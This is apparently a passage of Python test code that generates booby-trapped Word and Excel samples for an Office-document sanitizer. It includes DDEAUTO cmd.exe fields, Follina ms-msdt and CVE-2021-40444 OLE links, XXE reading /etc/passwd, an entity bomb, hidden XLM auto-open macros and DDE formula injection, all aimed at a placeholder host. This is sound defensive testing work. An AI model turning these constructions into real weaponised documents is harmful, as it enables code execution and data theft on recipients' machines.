    p.rel("word/document.xml", rt + "styles", "styles.xml")
    p.add("docProps/core.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
          'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Mugai sample</dc:title></cp:coreProperties>',
          CT["core"])
    p.rel("", PKGR + "metadata/core-properties", "docProps/core.xml")
    return p


def settings(p, body, strict=False):
    ns, rt = (NS_S, S) if strict else (NS_T, T)
    p.add("word/settings.xml", w_part("settings", body, ns), CT["settings"])
    p.rel("word/document.xml", rt + "settings", "settings.xml")


def add_vba(p, main="word/document.xml", folder="word"):
    p.default("bin", CT["vba"])
    p.add(f"{folder}/vbaProject.bin", VBA_BIN)
    p.rel(main, MS6 + "vbaProject", "vbaProject.bin")


def field(instr, result, ns_prefix="w"):
    """A complex field: begin, instruction, separate, cached result, end."""
    w = ns_prefix
    return (f'<{w}:r><{w}:fldChar {w}:fldCharType="begin"/></{w}:r>'
            f'<{w}:r><{w}:instrText xml:space="preserve"> {instr} </{w}:instrText></{w}:r>'
            f'<{w}:r><{w}:fldChar {w}:fldCharType="separate"/></{w}:r>'
            f'<{w}:r><{w}:t>{result}</{w}:t></{w}:r>'
            f'<{w}:r><{w}:fldChar {w}:fldCharType="end"/></{w}:r>')


PREVIEW_SHAPE = ('<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:60pt;height:40pt">'
                 '<v:imagedata r:id="{rid}" o:title=""/></v:shape>')


def sample_vba_docm():
    p = word(para("MUGAI-TEXT-VBA document body"), "docm")
    add_vba(p)
    p.add("word/vbaData.xml", w_part("vbaSuppData", "<w:docEvents><w:eventDocOpen/></w:docEvents>"
                                     "<w:mcds><w:mcd w:macroName=\"MUGAI-VBADATA\"/></w:mcds>")
          .replace("w:vbaSuppData", "wne:vbaSuppData")
          .replace("<wne:vbaSuppData ", '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml" '),
          CT["vbadata"])
    p.rel("word/vbaProject.bin", MS6 + "wordVbaData", "vbaData.xml")
    return p.build()


def sample_vba_renamed():
    """The VBA project under an image's name, reached as a vbaProject and as an image."""
    p = word(para("MUGAI-TEXT-RENAMED body") +
             '<w:p><w:r><w:pict>' + PREVIEW_SHAPE.format(rid="rIdImg") + '</w:pict></w:r></w:p>', "docm")
    p.default("png", "image/png")
    p.add("word/media/image9.png", VBA_BIN)
    p.rel("word/document.xml", MS6 + "vbaProject", "media/image9.png")
    p.rel("word/document.xml", T + "image", "media/image9.png", rid="rIdImg")
    return p.build()


def sample_dotm():
    p = word(para("MUGAI-TEXT-DOTM template"), "dotm")
    add_vba(p)
    return p.build()


def sample_remote_template():
    p = word(para("MUGAI-TEXT remote template"))
    settings(p, '<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/><w:updateFields w:val="true"/>'
             '<w:docVars><w:docVar w:name="x" w:val="MUGAI-DOCVAR"/></w:docVars>'
             '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdMM"/>'
             '<w:query w:val="SELECT * FROM MUGAI-QUERY"/></w:mailMerge>')
    p.rel("word/settings.xml", T + "attachedTemplate", "http://mugai.invalid/template.dotm", True, "rIdTpl")
    p.rel("word/settings.xml", T + "mailMergeSource", "file:///C:/mugai/source.xlsx", True, "rIdMM")
    return p.build()


def sample_ole_mhtml():
    body = ('<w:p><w:r><w:object w:dxaOrig="1520" w:dyaOrig="960">' + PREVIEW_SHAPE.format(rid="rIdPrev") +
            '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" '
            'r:id="rIdOle" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType>'
            '<o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>' + para("MUGAI-TEXT after"))
    p = word(body)
    p.word_png(1, "rIdPrev")
    p.rel("word/document.xml", T + "oleObject", "mhtml:http://mugai.invalid/cve-2021-40444.html!x-usc:"
          "http://mugai.invalid/cve-2021-40444.html", True, "rIdOle")
    return p.build()


def sample_follina():
    body = ('<w:p><w:r><w:object>' + PREVIEW_SHAPE.format(rid="rIdPrev") +
            '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" r:id="rIdOle"/>'
            '</w:object></w:r></w:p>' + para("MUGAI-TEXT follina"))
    p = word(body)
    p.word_png(2, "rIdPrev")
    p.rel("word/document.xml", T + "oleObject",
          "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile=MUGAI-FOLLINA\"", True, "rIdOle")
    p.rel("word/document.xml", T + "oleObject", "http://mugai.invalid/follina.html!", True)
    p.rel("word/document.xml", T + "package", "http://mugai.invalid/remote-package.docx", True)
    return p.build()


def sample_frame_subdoc():
    body = (para("MUGAI-TEXT frames and subdocuments") +
            '<w:p><w:r><w:t>sub:</w:t></w:r><w:subDoc r:id="rIdSub"/></w:p>' +
            '<w:altChunk r:id="rIdChunk"/>')
    p = word(body)
    p.add("word/webSettings.xml", w_part("webSettings", '<w:frameset><w:frame><w:name w:val="f1"/>'
                                         '<w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>'
                                         '<w:optimizeForBrowser/>'), CT["websettings"])
    p.rel("word/document.xml", T + "webSettings", "webSettings.xml")
    p.rel("word/webSettings.xml", T + "frame", "http://mugai.invalid/frame.docx", True, "rIdFrame")
    p.rel("word/document.xml", T + "subDocument", "file://mugai.invalid/share/sub.docx", True, "rIdSub")
    p.default("mht", "message/rfc822")
    p.add("word/afchunk.mht", b"MIME-Version: 1.0\r\n\r\nMUGAI-ALTCHUNK <script>alert(1)</script>")
    p.rel("word/document.xml", T + "aFChunk", "afchunk.mht", rid="rIdChunk")
    return p.build()


def sample_linked_image():
    body = ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="685800"/><wp:docPr id="1" name="P1"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="P1"/><pic:cNvPicPr/></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:embed="rIdEmb" r:link="rIdLink"/><a:stretch><a:fillRect/></a:stretch>'
            '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="685800"/></a:xfrm>'
            '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
            '</w:r></w:p>'
            '<w:p><w:r><w:pict><v:shape id="s2" style="width:40pt;height:30pt" o:href="http://mugai.invalid/vml-href.png">'
            '<v:imagedata r:id="rIdVml" o:title="" src="http://mugai.invalid/vml-src.png"/></v:shape></w:pict></w:r></w:p>' +
            para("MUGAI-TEXT linked images"))
    p = word(body)
    p.word_png(3, "rIdEmb")
    p.rel("word/document.xml", T + "image", "http://mugai.invalid/tracking.png", True, "rIdLink")
    p.rel("word/document.xml", T + "image", "\\\\mugai.invalid\\share\\vml.png", True, "rIdVml")
    return p.build()


def sample_ole_embedded():
    body = ('<w:p><w:r><w:object w:dxaOrig="1520" w:dyaOrig="960">' + PREVIEW_SHAPE.format(rid="rIdPrev") +
            '<o:OLEObject Type="Embed" ProgID="Equation.3" ShapeID="_x0000_i1025" DrawAspect="Content" '
            'ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>' + para("MUGAI-TEXT equation"))
    p = word(body)
    p.word_png(4, "rIdPrev")
    p.default("bin", CT["ole"])
    p.add("word/embeddings/oleObject1.bin", OLE_EQUATION)
    p.rel("word/document.xml", T + "oleObject", "embeddings/oleObject1.bin", rid="rIdOle")
    return p.build()


def sample_activex():
    body = ('<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720">' + PREVIEW_SHAPE.format(rid="rIdPrev") +
            '<w:control r:id="rIdCtl" w:name="CommandButton1" w:shapeid="_x0000_i1025"/></w:object></w:r></w:p>' +
            para("MUGAI-TEXT activex"))
    p = word(body)
    p.word_png(5, "rIdPrev")
    p.add("word/activeX/activeX1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
          '<ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rIdBin" '
          'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="' + NS_T["r"] + '"/>', CT["activex"])
    p.add("word/activeX/activeX1.bin", ACTIVEX_BIN, CT["activexbin"])
    p.rel("word/document.xml", T + "control", "activeX/activeX1.xml", rid="rIdCtl")
    p.rel("word/activeX/activeX1.xml", MS6 + "activeXControlBinary", "activeX1.bin", rid="rIdBin")
    return p.build()


def sample_customui():
    p = word(para("MUGAI-TEXT customui"), "docm")
    add_vba(p)
    p.add("customUI/customUI14.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
          'onLoad="MUGAI_ONLOAD"><ribbon/></customUI>')
    p.rel("", MS7 + "ui/extensibility", "customUI/customUI14.xml")
    p.add("customUI/customUI.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
          'onLoad="MUGAI_ONLOAD2"><ribbon/></customUI>')
    p.rel("", MS6 + "ui/extensibility", "customUI/customUI.xml")
    return p.build()


def sample_dde_fields():
    nested = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE "DDEAUTO" </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
              '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\system32\\\\cmd.exe "/k MUGAI-NESTED" </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>MUGAI-RESULT-NESTED</w:t></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    body = ('<w:p><w:r><w:t xml:space="preserve">Before </w:t></w:r>' +
            field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo MUGAI-DDEAUTO"', "MUGAI-RESULT-DDEAUTO") +
            '<w:r><w:t xml:space="preserve"> after.</w:t></w:r></w:p>'
            '<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c MUGAI-DDE-SIMPLE&quot; A1 "><w:r><w:t>MUGAI-RESULT-SIMPLE'
            '</w:t></w:r></w:fldSimple></w:p>'
            '<w:p>' + nested + '</w:p>'
            '<w:p>' + field("PAGE", "1") + field('MACROBUTTON Evil "MUGAI-MACROBUTTON"', "MUGAI-RESULT-MACROBUTTON") +
            '</w:p>'
            '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/><w:entryMacro w:val="MUGAI_ENTRY"/>'
            '<w:exitMacro w:val="MUGAI_EXIT"/><w:textInput/></w:ffData></w:fldChar></w:r>'
            '<w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>form value</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' +
            para("MUGAI-TEXT dde fields"))
    return word(body).build()


def sample_include_fields():
    p = word('<w:p>' + field("TIME \\@ \"HH:mm\"", "12:00") + '</w:p>' +
             '<w:p><w:r><w:t>note</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r>'
             '<w:commentRangeStart w:id="0"/><w:r><w:t>commented</w:t></w:r><w:commentRangeEnd w:id="0"/>'
             '<w:r><w:commentReference w:id="0"/></w:r></w:p>' + para("MUGAI-TEXT include fields") +
             '<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/><w:footerReference w:type="default" r:id="rIdF"/>'
             '</w:sectPr>')
    p.add("word/header1.xml", w_part("hdr", '<w:p>' + field('INCLUDETEXT "\\\\\\\\mugai.invalid\\\\share\\\\a.docx"',
                                                            "MUGAI-RESULT-INCLUDETEXT") + '</w:p>'), CT["header"])
    p.add("word/footer1.xml", w_part("ftr", '<w:p>' + field('INCLUDEPICTURE "http://mugai.invalid/pixel.png" \\d',
                                                            "MUGAI-RESULT-INCLUDEPICTURE") + '</w:p>'), CT["footer"])
    p.add("word/footnotes.xml", w_part("footnotes", '<w:footnote w:id="1"><w:p>' +
                                       field('LINK Excel.Sheet.8 "C:\\\\mugai\\\\book.xls" "Sheet1!R1C1" \\a',
                                             "MUGAI-RESULT-LINK") + '</w:p></w:footnote>'), CT["footnotes"])
    p.add("word/endnotes.xml", w_part("endnotes", '<w:endnote w:id="1"><w:p>' +
                                      field('DDE Excel "C:\\\\mugai\\\\book.xls" "R1C1"', "MUGAI-RESULT-ENDNOTE-DDE") +
                                      '</w:p></w:endnote>'), OD + "wordprocessingml.endnotes+xml")
    p.add("word/comments.xml", w_part("comments", '<w:comment w:id="0" w:author="x"><w:p>' +
                                      field('IMPORT "http://mugai.invalid/import.wmf"', "MUGAI-RESULT-IMPORT") +
                                      '</w:p></w:comment>'), CT["comments"])
    for name, t in (("header1.xml", "header"), ("footer1.xml", "footer"), ("footnotes.xml", "footnotes"),
                    ("endnotes.xml", "endnotes"), ("comments.xml", "comments")):
        p.rel("word/document.xml", T + t, name, rid={"header": "rIdH", "footer": "rIdF"}.get(t))
    return p.build()


def sample_hyperlinks(keep_simple=False):
    links = [("http://www.example.jp/ok-http", "KEEP-HTTP"), ("https://www.example.jp/ok-https", "KEEP-HTTPS"),
             ("mailto:info@example.jp", "KEEP-MAILTO"), ("javascript:alert('MUGAI-JS')", "DROP-JS"),
             ("file:///C:/Windows/System32/calc.exe", "DROP-FILE"), ("\\\\mugai.invalid\\share\\x", "DROP-UNC")]
    body = ""
    p = word("")
    for i, (url, text) in enumerate(links):
        rid = p.rel("word/document.xml", T + "hyperlink", url, True, f"rIdL{i}")
        body += f'<w:p><w:hyperlink r:id="{rid}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink></w:p>'
    body += '<w:p>' + field('HYPERLINK "file://mugai.invalid/share/doc.docx"', "MUGAI-RESULT-FILELINK") + '</w:p>'
    body += '<w:p>' + field('HYPERLINK "https://www.example.jp/field"', "KEEP-FIELD-LINK") + '</w:p>'
    p.add("word/document.xml", w_doc(body), CT["docx"])
    return p.build()


def sample_image_via_hyperlink():
    """Pictures whose relationship is an http "hyperlink": kept as a link, never as a picture source."""
    body = ('<w:p><w:r><w:pict>' + PREVIEW_SHAPE.format(rid="rIdWeb") + '</w:pict></w:r></w:p>'
            '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="685800"/><wp:docPr id="1" name="P1">'
            '<a:hlinkClick r:id="rIdWeb"/></wp:docPr><a:graphic><a:graphicData '
            'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
            '<pic:cNvPr id="1" name="P1"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdWeb"/>'
            '</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
            '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>KEEP-LINK-TEXT</w:t></w:r></w:hyperlink></w:p>' +
            para("MUGAI-TEXT image via hyperlink"))
    p = word(body)
    p.rel("word/document.xml", T + "hyperlink", "http://mugai.invalid/tracking-pixel.png", True, "rIdWeb")
    return p.build()


def sample_emf_image():
    body = ('<w:p><w:r><w:pict>' + PREVIEW_SHAPE.format(rid="rIdEmf") + '</w:pict></w:r></w:p>' +
            '<w:p><w:r><w:pict>' + PREVIEW_SHAPE.format(rid="rIdJpg").replace("i1025", "i1026") + '</w:pict></w:r></w:p>' +
            para("MUGAI-TEXT images"))
    p = word(body)
    p.default("emf", "image/x-emf")
    p.default("jpeg", "image/jpeg")
    p.add("word/media/image1.emf", EMF)
    p.add("word/media/image2.jpeg", jpeg_with_exif())
    p.rel("word/document.xml", T + "image", "media/image1.emf", rid="rIdEmf")
    p.rel("word/document.xml", T + "image", "media/image2.jpeg", rid="rIdJpg")
    return p.build()


def sample_billion_laughs():
    lol = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
           '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
           '<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n'
           f'<w:document xmlns:w="{NS_T["w"]}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>')
    p = word(para("x"))
    return p.build({"word/document.xml": lol.encode()})


def sample_xxe_content_types():
    p = word(para("MUGAI-TEXT xxe"))
    ct = p.content_types().decode().replace(
        "<Types", '<!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Types', 1)
    return p.build({"[Content_Types].xml": ct.encode()})


def sample_xxe_utf16():
    doc = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://mugai.invalid/xxe">]>\n'
           f'<w:document xmlns:w="{NS_T["w"]}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>')
    p = word(para("x"))
    return p.build({"word/document.xml": b"\xff\xfe" + doc.encode("utf-16-le")})


def sample_utf16_ok():
    """A UTF-16 document part without DOCTYPE: legal, must survive."""
    doc = w_doc(para("UTF16-KEPT 日本語のテキスト")).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    p = word(para("x"))
    return p.build({"word/document.xml": b"\xff\xfe" + doc.encode("utf-16-le")})


def sample_strict_docx():
    body = ('<w:p><w:r><w:t xml:space="preserve">Strict </w:t></w:r>' +
            field('DDEAUTO cmd "/c MUGAI-STRICT-DDE"', "MUGAI-RESULT-STRICT") + '</w:p>'
            '<w:p><w:r><w:object>' + PREVIEW_SHAPE.format(rid="rIdPrev") +
            '<o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdOle"/></w:object></w:r></w:p>' +
            para("MUGAI-TEXT strict"))
    p = word(body, strict=True)
    settings(p, '<w:attachedTemplate r:id="rIdTpl"/>', strict=True)
    p.word_png(6, "rIdPrev", S)
    p.rel("word/document.xml", S + "oleObject", "mhtml:http://mugai.invalid/strict.html!x", True, "rIdOle")
    p.rel("word/settings.xml", S + "attachedTemplate", "https://mugai.invalid/strict.dotm", True, "rIdTpl")
    return p.build()


def sample_dup_names():
    p = word(para("MUGAI-TEXT first"))
    members = p.members() + [("Word/Document.xml", w_doc(para("MUGAI-TEXT second")).encode())]
    return make_zip(members)


def sample_bomb():
    p = word(para("x"))
    big = w_doc("<w:p><w:r><w:t>" + " " * (24 << 20) + "</w:t></w:r></w:p>").encode()
    return p.build({"word/document.xml": big})


def sample_encrypted_member():
    """word/document.xml flagged as encrypted (traditional PKWARE bit): it cannot be inspected."""
    data = bytearray(word(para("MUGAI-TEXT encrypted")).build())
    name = b"word/document.xml"
    i = 0
    while True:
        i = data.find(b"PK\x03\x04", i)
        if i < 0:
            break
        if data[i + 30:i + 30 + len(name)] == name:
            data[i + 6] |= 1
        i += 4
    i = 0
    while True:
        i = data.find(b"PK\x01\x02", i)
        if i < 0:
            break
        if data[i + 46:i + 46 + len(name)] == name:
            data[i + 8] |= 1
        i += 4
    return bytes(data)


def sample_no_main():
    p = Pkg()
    p.add("word/document.xml", w_doc(para("orphan")), CT["docx"])
    return p.build()


# ---------------------------------------------------------------------------
# SpreadsheetML


def x_part(root, body, ns=NS_T, extra=""):
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<{root} xmlns="{ns["x"]}" xmlns:r="{ns["r"]}" {extra}>{body}</{root}>')


def workbook(sheets, kind="xlsx", strict=False, names="", extra=""):
    """sheets: list of (name, rel type suffix, part, xml, state)."""
    ns, rt = (NS_S, S) if strict else (NS_T, T)
    p = Pkg()
    entries = ""
    for i, (name, typ, part, xml, state) in enumerate(sheets, start=1):
        rid = p.rel("xl/workbook.xml", (MS6 if typ.startswith("ms:") else rt) + typ.replace("ms:", ""),
                    part.replace("xl/", ""), rid=f"rIdS{i}")
        st = f' state="{state}"' if state else ""
        entries += f'<sheet name="{name}" sheetId="{i}"{st} r:id="{rid}"/>'
        ct = CT["macrosheet"] if "acrosheet" in typ else CT["sheet"]
        p.add(part, xml, ct)
    p.add("xl/workbook.xml", x_part("workbook", '<bookViews><workbookView activeTab="1"/></bookViews>'
                                    f'<sheets>{entries}</sheets>{extra}'
                                    f'{"<definedNames>" + names + "</definedNames>" if names else ""}', ns),
          CT[kind])
    p.rel("", rt + "officeDocument", "xl/workbook.xml")
    return p


def sheet(rows, ns=NS_T, extra_after="", extra_ns=""):
    cells = ""
    for r, row in enumerate(rows, start=1):
        cells += f'<row r="{r}">' + "".join(row) + "</row>"
    return x_part("worksheet", f"<sheetData>{cells}</sheetData>{extra_after}", ns, extra_ns)


def c_str(ref, s):
    return f'<c r="{ref}" t="inlineStr"><is><t>{s}</t></is></c>'


def c_num(ref, v, f=None, t=None, fattr=""):
    tt = f' t="{t}"' if t else ""
    ff = f"<f{fattr}>{xml_escape(f)}</f>" if f is not None else ""
    return f'<c r="{ref}"{tt}>{ff}<v>{v}</v></c>'


MACROSHEET = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<xm:macrosheet xmlns="' + NS_T["x"] + '" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
              '<sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c echo MUGAI-XLM")</f><v>0</v></c></row>'
              '<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')


def sample_xlm_macrosheet(kind="xlsm", strict=False):
    ns = NS_S if strict else NS_T
    p = workbook([("Data", "worksheet", "xl/worksheets/sheet1.xml",
                   sheet([[c_str("A1", "MUGAI-TEXT-DATA"), c_num("B1", 3, "1+2")]], ns), None),
                  ("Macro1", "xlMacrosheet", "xl/macrosheets/sheet1.xml", MACROSHEET.replace(NS_T["x"], ns["x"]),
                   "veryHidden"),
                  ("Intl1", "xlIntlMacrosheet", "xl/macrosheets/intlsheet1.xml",
                   MACROSHEET.replace(NS_T["x"], ns["x"]).replace("MUGAI-XLM", "MUGAI-XLM-INTL"), "hidden"),
                  ("Dialog1", "dialogsheet", "xl/dialogsheets/sheet1.xml",
                   x_part("dialogsheet", "<sheetPr/>", ns), None)],
                 kind, strict,
                 names='<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
                       '<definedName name="Auto_Open_MUGAI">Macro1!$A$1</definedName>'
                       '<definedName name="auto_close">Macro1!$A$2</definedName>'
                       '<definedName name="MacroFn" function="1" xlm="1">Macro1!$A$1</definedName>'
                       '<definedName name="KeepName">Data!$A$1</definedName>'
                       '<definedName name="LocalToMacro" localSheetId="1">Macro1!$A$1</definedName>'
                       '<definedName name="LocalToData" localSheetId="0">Data!$B$1</definedName>')
    if kind.endswith("m"):
        add_vba(p, "xl/workbook.xml", "xl")
    return p.build()


def sample_dde_formula():
    rows = [[c_str("A1", "MUGAI-TEXT-FORMULAS"), c_num("B1", 0, "cmd|'/c calc'!A0"),
             c_num("C1", 7, "SUM(1,6)")],
            [c_num("A2", 1, "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c MUGAI-DDE2'!''"),
             c_num("B2", 5, '"a|b"&"c"', t="str").replace("<v>5</v>", "<v>a|bc</v>"),
             c_num("C2", 42, "[1]Sheet1!A1")],
            [c_num("A3", 0, "WEBSERVICE(\"http://mugai.invalid/x\")", t="str").replace("<v>0</v>", "<v>MUGAI-CACHED-WS</v>"),
             c_num("B3", 9, "'cmd'|'/c MUGAI-SHARED'!A0", fattr=' t="shared" ref="B3:B4" si="0"'),
             c_num("C3", 11, "A3+B3")],
            [c_num("A4", 2, "_xlfn.RTD(\"mugai.rtd\",,\"x\")"), c_num("B4", 9, "", fattr=' t="shared" si="0"'),
             c_num("C4", 12, "C3+1", fattr=' t="shared" ref="C4:C5" si="1"')],
            [c_num("C5", 13, "", fattr=' t="shared" si="1"')]]
    xml = sheet(rows, extra_after='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
                '<formula>cmd|\'/c MUGAI-CF\'!A0</formula></cfRule></conditionalFormatting>'
                '<dataValidations count="1"><dataValidation type="list" sqref="D1"><formula1>"a,b"</formula1>'
                '</dataValidation></dataValidations>')
    p = workbook([("Sheet1", "worksheet", "xl/worksheets/sheet1.xml", xml, None)],
                 names='<definedName name="Ext">[1]Sheet1!$A$1</definedName>'
                       '<definedName name="Dde">cmd|\'/c MUGAI-NAME\'!A0</definedName>')
    return p.build()


def sample_external_link():
    xml = sheet([[c_str("A1", "MUGAI-TEXT-EXTLINK"), c_num("B1", 42, "[1]Sheet1!A1"),
                  c_num("C1", 0, "[2]!'A0'")]])
    p = workbook([("Sheet1", "worksheet", "xl/worksheets/sheet1.xml", xml, None)],
                 extra='<externalReferences><externalReference r:id="rIdE1"/><externalReference r:id="rIdE2"/>'
                       '</externalReferences>')
    p.add("xl/externalLinks/externalLink1.xml", x_part("externalLink", '<externalBook r:id="rIdP"><sheetNames>'
          '<sheetName val="Sheet1"/></sheetNames></externalBook>'), CT["extlink"])
    p.add("xl/externalLinks/externalLink2.xml", x_part("externalLink", '<ddeLink ddeService="cmd" '
          'ddeTopic="/c echo MUGAI-DDELINK"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'),
          CT["extlink"])
    p.rel("xl/workbook.xml", T + "externalLink", "externalLinks/externalLink1.xml", rid="rIdE1")
    p.rel("xl/workbook.xml", T + "externalLink", "externalLinks/externalLink2.xml", rid="rIdE2")
    p.rel("xl/externalLinks/externalLink1.xml", T + "externalLinkPath", "file:///C:/mugai/book.xlsx", True, "rIdP")
    return p.build()


def sample_connections():
    xml = sheet([[c_str("A1", "MUGAI-TEXT-CONN"), c_str("B1", "v")]],
                extra_after='<tableParts count="1"><tablePart r:id="rIdT"/></tableParts>')
    p = workbook([("Sheet1", "worksheet", "xl/worksheets/sheet1.xml", xml, None)])
    p.add("xl/connections.xml", x_part("connections", '<connection id="1" name="MUGAI-CONN" type="5" '
          'refreshOnLoad="1"><dbPr connection="Provider=MSOLEDBSQL;Data Source=mugai.invalid" command="MUGAI-SQL"/>'
          '</connection>'), CT["connections"])
    p.rel("xl/workbook.xml", T + "connections", "connections.xml")
    p.add("xl/tables/table1.xml", x_part("table", '<autoFilter ref="A1:B1"/><tableColumns count="2">'
          '<tableColumn id="1" name="A" queryTableFieldId="1"/><tableColumn id="2" name="B" queryTableFieldId="2"/>'
          '</tableColumns>', extra="").replace("<table ", '<table id="1" name="T1" displayName="T1" ref="A1:B1" '
                                               'tableType="queryTable" '), CT["table"])
    p.rel("xl/worksheets/sheet1.xml", T + "table", "../tables/table1.xml", rid="rIdT")
    p.add("xl/queryTables/queryTable1.xml", x_part("queryTable", '<queryTableRefresh/>')
          .replace("<queryTable ", '<queryTable name="MUGAI-QT" connectionId="1" '), CT["querytable"])
    p.rel("xl/tables/table1.xml", T + "queryTable", "../queryTables/queryTable1.xml")
    p.add("customXml/item1.xml", '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.'
          'microsoft.com/DataMashup">AAAAAE1VR0FJLVBPV0VSLVFVRVJZ</DataMashup>'.encode("utf-16"))
    p.add("customXml/itemProps1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
          '<ds:datastoreItem ds:itemID="{00000000-0000-0000-0000-000000000001}" '
          'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>', CT["customxmlprops"])
    p.rel("", T + "customXml", "customXml/item1.xml")
    p.rel("customXml/item1.xml", T + "customXmlProps", "itemProps1.xml")
    return p.build()


def sample_xlsx_button_macro():
    xml = sheet([[c_str("A1", "MUGAI-TEXT-BUTTON")]],
                extra_after='<legacyDrawing r:id="rIdV"/><oleObjects><oleObject progId="Package" shapeId="1026" '
                            'r:id="rIdO"/></oleObjects><controls><control shapeId="1027" r:id="rIdC" '
                            'name="CommandButton1"/></controls>')
    p = workbook([("Sheet1", "worksheet", "xl/worksheets/sheet1.xml", xml, None)])
    vml = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
           'xmlns:x="urn:schemas-microsoft-com:office:excel">'
           '<v:shape id="_x0000_s1025" type="#_x0000_t201" style="position:absolute;width:72pt;height:24pt" '
           'href="file:///C:/mugai/vml.exe"><x:ClientData ObjectType="Button"><x:Anchor>1, 0, 1, 0, 3, 0, 3, 0</x:Anchor>'
           '<x:FmlaMacro>[0]!MUGAI_BUTTON_MACRO</x:FmlaMacro></x:ClientData></v:shape>'
           '<v:shape id="_x0000_s1026" type="#_x0000_t75"><v:imagedata o:relid="rIdImg" o:title=""/>'
           '<x:ClientData ObjectType="Pict"><x:CF>Pict</x:CF></x:ClientData></v:shape></xml>')
    p.add("xl/drawings/vmlDrawing1.vml", vml, CT["vml"])
    p.rel("xl/worksheets/sheet1.xml", T + "vmlDrawing", "../drawings/vmlDrawing1.vml", rid="rIdV")
    p.default("png", "image/png")
    p.add("xl/media/image1.png", png(seed=8))
    p.rel("xl/drawings/vmlDrawing1.vml", T + "image", "../media/image1.png", rid="rIdImg")
    p.default("bin", CT["ole"])
    p.add("xl/embeddings/oleObject1.bin", OLE_EQUATION)
